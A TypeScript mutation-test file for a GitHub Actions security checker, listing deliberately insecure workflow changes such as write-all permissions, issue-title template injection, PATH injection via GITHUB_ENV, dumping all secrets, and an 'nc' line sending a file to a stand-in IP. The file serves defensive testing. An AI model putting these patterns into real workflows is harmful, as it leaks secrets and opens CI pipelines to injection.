import { type Mutation, workflow } from './mutate';

type Steps = { steps: object[] };
const step = (added: object) =>
  workflow('freshness.yml', ({ jobs }) => {
    for (const { steps } of Object.values<Steps>(jobs)) steps.push(added);
  });

const COMMIT = 'a'.repeat(40);

/** How the workflows can be broken, by the rule that says so. */
export const WORKFLOW_MUTATIONS: Record<string, Record<string, Mutation>> = {
  'unpinned-uses-workflow-pinned': {
    'a tag': step({ uses: 'some/action@v4' }),
    'an image': workflow('freshness.yml', ({ jobs }) => {
      jobs.more = { container: 'postgres:latest', steps: [] };
    }),
  },
  'excessive-permissions-workflow-permissions': {
    'GitHub decides': workflow('freshness.yml', (it) => delete it.permissions),
    'a job that writes': workflow('freshness.yml', ({ jobs }) => {
      jobs.more = { permissions: { contents: 'write' }, steps: [] };
    }),
    'a job that may do all': workflow('freshness.yml', ({ jobs }) => {
      jobs.more = { permissions: 'write-all', steps: [] };
    }),
  },
  'dangerous-triggers-workflow-triggers': {
    'a pull request': workflow('pre-deploy.yml', ({ on }) => {
      on.pull_request_target = {};
    }),
  },
  'template-injection-workflow-templates': {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub's own template
    'a title as a script': step({ run: 'echo ${{ github.event.issue.title }}' }),
    'the environment of the next': step({ run: 'echo PATH=. >> "$GITHUB_ENV"' }),
  },
  'concurrency-limits-workflow-concurrency': {
    'beside itself': workflow('freshness.yml', (it) => delete it.concurrency),
  },
  'secrets-inherit-workflow-secrets': {
    inherited: workflow('freshness.yml', ({ jobs }) => {
      jobs.more = { uses: './.github/workflows/x.yml', secrets: 'inherit' };
    }),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub's own template
    whole: step({ env: { ALL: '${{ toJSON(secrets) }}' }, run: 'true' }),
  },
  'artipacked-workflow-carries-nothing': {
    'an artefact': step({ uses: `actions/upload-artifact@${COMMIT}` }),
    'a token in a checkout': step({ uses: `actions/checkout@${COMMIT}` }),
    'data to a stranger': step({ run: 'nc 192.0.2.1 80 < answer' }),
    'a copy of the vault': step({ run: 'aws s3 sync s3://vault .' }),
  },
};
